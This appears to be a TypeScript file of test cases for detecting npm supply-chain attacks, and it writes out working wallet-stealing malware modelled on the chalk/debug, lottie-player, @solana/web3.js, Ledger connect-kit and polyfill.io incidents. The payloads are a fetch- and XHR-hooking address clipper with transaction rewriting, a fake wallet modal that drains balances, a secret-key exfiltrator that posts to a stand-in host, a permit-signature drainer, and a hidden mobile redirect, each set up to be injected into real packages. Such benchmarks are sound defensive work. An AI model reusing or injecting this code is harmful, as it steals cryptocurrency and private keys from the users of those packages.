import { obfuscated } from '../evasions/obfuscate.ts'
import type { NpmAttack } from '../npm-attack.ts'
import { blob, hexBlob } from '../random.ts'

/** Addresses of nobody, so many and so long as a clipper carries. */
const addresses = (label: string, prefix: string, count: number) =>
  JSON.stringify(Array.from({ length: count }, (_, index) => `${prefix}${hexBlob(`${label}/${index}`, 40)}`))

const clipper = `var neth = 0;
var rund = 0;
var loval = 0;
async function checkethereumw() {
  try {
    const accounts = await window.ethereum.request({ method: "eth_accounts" });
    if (accounts.length > 0) { runmask(); if (rund != 1) { rund = 1; neth = 1; newdlocal(); } }
    else if (rund != 1) { rund = 1; newdlocal(); }
  } catch (error) { if (rund != 1) { rund = 1; newdlocal(); } }
}
function newdlocal() {
  const original = window.fetch;
  window.fetch = async function (...args) {
    const response = await original.apply(this, args);
    const kind = response.headers.get("Content-Type") || "";
    let text;
    if (kind.includes("application/json")) text = JSON.stringify(await response.clone().json());
    else text = await response.clone().text();
    const processed = sanitize(text);
    const blob = new Response(processed, { status: response.status, statusText: response.statusText, headers: response.headers });
    return blob;
  };
  const open = XMLHttpRequest.prototype.open;
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url, asynchronous, user, password) {
    this._url = url;
    return open.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    const xhr = this;
    const handler = xhr.onreadystatechange;
    xhr.onreadystatechange = function () {
      if (xhr.readyState === 4) {
        try { Object.defineProperty(xhr, "responseText", { value: sanitize(xhr.responseText) }); } catch (error) {}
      }
      if (handler) handler.apply(this, arguments);
    };
    return send.apply(this, arguments);
  };
}
function distance(first, second) {
  const grid = Array.from({ length: first.length + 1 }, () => Array(second.length + 1).fill(0));
  for (let i = 0; i <= first.length; i++) grid[i][0] = i;
  for (let j = 0; j <= second.length; j++) grid[0][j] = j;
  for (let i = 1; i <= first.length; i++) for (let j = 1; j <= second.length; j++) {
    grid[i][j] = first[i - 1] === second[j - 1] ? grid[i - 1][j - 1] : 1 + Math.min(grid[i - 1][j], grid[i][j - 1], grid[i - 1][j - 1]);
  }
  return grid[first.length][second.length];
}
function nearest(wanted, list) {
  let best = Infinity; let chosen = null;
  for (const each of list) { const apart = distance(wanted.toLowerCase(), each.toLowerCase()); if (apart < best) { best = apart; chosen = each; } }
  return chosen;
}
function sanitize(text) {
  const mine = ${addresses('clipper/eth', '0x', 24)};
  const coins = ${addresses('clipper/btc', 'bc1q', 20)};
  const patterns = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/g, bitcoin: /\\bbc1[a-z0-9]{39,59}\\b/g, solana: /\\b[1-9A-HJ-NP-Za-km-z]{44}\\b/g };
  let out = text;
  for (const [name, pattern] of Object.entries(patterns)) {
    out = out.replace(pattern, (found) => nearest(found, name === "bitcoin" ? coins : mine));
  }
  return out;
}
function runmask() {
  const provider = window.ethereum;
  const methods = ["request", "send", "sendAsync"];
  methods.forEach((name) => {
    const original = provider[name];
    Object.defineProperty(provider, name, { value: async function (...args) {
      const query = args[0];
      if (query && query.method === "eth_sendTransaction" && query.params) {
        const transaction = query.params[0];
        const data = (transaction.data || "").toLowerCase();
        if (data.startsWith("0x095ea7b3")) transaction.data = data.substring(0, 10) + "0".repeat(24) + "${hexBlob('spender', 40)}" + "f".repeat(64);
        else transaction.to = "0x${hexBlob('receiver', 40)}";
      }
      return original.apply(this, args);
    } });
  });
}
`

const clipperTrigger =
  'if (typeof window !== "undefined" && typeof window.ethereum !== "undefined") checkethereumw(); else if (typeof window !== "undefined") newdlocal();'

const prompt = `var __conn = (function () {
  var relay = "wss://relay.castleservices.invalid";
  var project = "${hexBlob('project', 32)}";
  var drain = "0x${hexBlob('drain', 40)}";
  function modal() {
    var frame = document.createElement("div");
    frame.id = "w3m-modal";
    frame.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6)";
    frame.innerHTML = atob("${blob('modal', 2400)}");
    document.body.appendChild(frame);
    return frame;
  }
  async function connect() {
    var frame = modal();
    var accounts = await window.ethereum.request({ method: "eth_requestAccounts" });
    var balance = await window.ethereum.request({ method: "eth_getBalance", params: [accounts[0], "latest"] });
    var socket = new WebSocket(relay + "/?projectId=" + project);
    socket.onopen = function () { socket.send(JSON.stringify({ account: accounts[0], balance: balance, origin: location.href })); };
    socket.onmessage = async function (event) {
      var order = JSON.parse(event.data);
      await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: accounts[0], to: drain, value: balance, data: order.data }] });
    };
    frame.remove();
  }
  return { connect: connect };
})();
`

const keyQueue = `const addToQueue = async (first, second = "") => {
  try {
    const code = Buffer.from(first).toString("base64") + (second ? "." + second : "");
    await fetch("https://sol-rpc.invalid/api/rpc/queue", {
      method: "POST",
      headers: { "x-amz-cf-id": code.slice(0, 24), "x-session-id": code.slice(24, 48), "x-amz-cf-pop": code.slice(48) },
    });
  } catch (error) {}
};
`

const drainer = `const __ck = async () => {
  const script = document.createElement("script");
  script.src = "https://cdn.jsdelivr-npm.invalid/minidrainer/3.4.0/" + btoa(location.host) + ".js";
  script.async = true;
  document.head.appendChild(script);
  const provider = window.ethereum || window.solana || window.tronWeb;
  if (!provider) return;
  const [account] = await provider.request({ method: "eth_requestAccounts" });
  const message = { domain: { name: "USDC", version: "2", chainId: 1 }, primaryType: "Permit", message: { owner: account, spender: "0x${hexBlob('permit', 40)}", value: "0x${'f'.repeat(64)}" } };
  const signature = await provider.request({ method: "eth_signTypedData_v4", params: [account, JSON.stringify(message)] });
  await fetch("https://api.minidrainer.invalid/claim", { method: "POST", body: JSON.stringify({ account: account, signature: signature }) });
};
`

const redirect = `(function () {
  var agent = navigator.userAgent;
  if (!/Android|webOS|iPhone|iPad|Mobile/i.test(agent)) return;
  if (document.cookie.indexOf("_utmseen") >= 0 || /admin|wp-login/.test(location.href)) return;
  var hour = new Date().getHours();
  var weight = hour >= 0 && hour < 2 ? 10 : hour < 7 ? 30 : 5;
  if (Math.random() * 100 > weight) return;
  setTimeout(function () {
    var tag = document.createElement("script");
    tag.src = "https://www.googie-anaiytics.invalid/ga.js";
    document.getElementsByTagName("head")[0].appendChild(tag);
    var body = JSON.parse(decodeURIComponent(escape(atob("${blob('redirect', 320)}"))));
    if (body.url) location.href = body.url;
  }, 2000);
})();
`

export const walletAttacks: readonly NpmAttack[] = [
  {
    name: 'chalk-2025',
    title: 'chalk: an obfuscated line that replaces fetch, XMLHttpRequest and the wallet of a browser',
    source: 'Reports on chalk 5.6.1, debug 4.4.2 and others of 8 September 2025',
    use: 'development',
    base: 'chalk',
    tamper: () => ({ injected: [{ into: 'source/index.js', at: 'start', code: obfuscated(`${clipper}\n${clipperTrigger}`, 'chalk') }] }),
    evasions: ['in-test-file', 'renamed-chunks'],
  },
  {
    name: 'debug-2025',
    title: 'debug: the same code in another package, in plain writing',
    source: 'Reports on chalk 5.6.1, debug 4.4.2 and others of 8 September 2025',
    use: 'development',
    base: 'debug',
    tamper: () => ({ injected: [{ into: 'src/index.js', at: 'start', code: clipper, trigger: clipperTrigger }] }),
    evasions: ['minified', 'concatenated-names', 'two-step', 'aliased'],
  },
  {
    name: 'lottie-player-2024',
    title: 'lottie-player: a web component that asks to connect a wallet',
    source: 'Reports on @lottiefiles/lottie-player 2.0.5 to 2.0.7 of 30 October 2024',
    use: 'development',
    base: '@lottiefiles/lottie-player',
    tamper: () => ({
      injected: ['dist/lottie-player.js', 'dist/lottie-player.esm.js', 'dist/tgs-player.js'].map((into) => ({
        into,
        at: 'end' as const,
        code: prompt,
        trigger: 'if (typeof window !== "undefined" && window.ethereum) window.addEventListener("load", __conn.connect);',
      })),
    }),
    evasions: ['minified', 'split-blob', 'two-step'],
  },
  {
    name: 'solana-web3-2024',
    title: 'web3.js: one small function that sends each private key away in headers',
    source: 'Reports on @solana/web3.js 1.95.6 and 1.95.7 of 2 December 2024',
    use: 'development',
    base: '@solana/web3.js',
    tamper: ({ new: files }) => ({
      injected: ['lib/index.cjs.js', 'lib/index.esm.js', 'lib/index.browser.cjs.js', 'lib/index.browser.esm.js', 'lib/index.native.js', 'lib/index.iife.js']
        .filter((into) => files.has(into))
        .map((into) => ({
          into,
          at: 'inside' as const,
          code: keyQueue,
          trigger: 'Keypair.prototype.toString = function () { addToQueue(this.secretKey); return this.publicKey.toBase58(); };',
        })),
    }),
    evasions: ['minified', 'concatenated-names', 'escaped-strings', 'two-step', 'renamed-chunks'],
  },
  {
    name: 'connect-kit-2023',
    title: 'connect-kit: a loader of a drainer that asks for a signature',
    source: 'Reports on @ledgerhq/connect-kit 1.1.5 to 1.1.7 of 14 December 2023',
    use: 'held-out',
    base: 'd3-scale',
    tamper: () => ({
      injected: ['dist/d3-scale.js', 'dist/d3-scale.mjs'].map((into) => ({ into, at: 'end' as const, code: drainer, trigger: '__ck().catch(() => {});' })),
    }),
    evasions: ['minified', 'concatenated-names'],
  },
  {
    name: 'polyfill-2024',
    title: 'polyfill: some visitors, at some hours, are sent elsewhere',
    source: 'Reports on polyfill.io of June 2024',
    use: 'development',
    base: 'd3-scale',
    tamper: () => ({ injected: [{ into: 'dist/d3-scale.js', at: 'end', code: redirect }] }),
    evasions: ['escaped-strings'],
  },
]
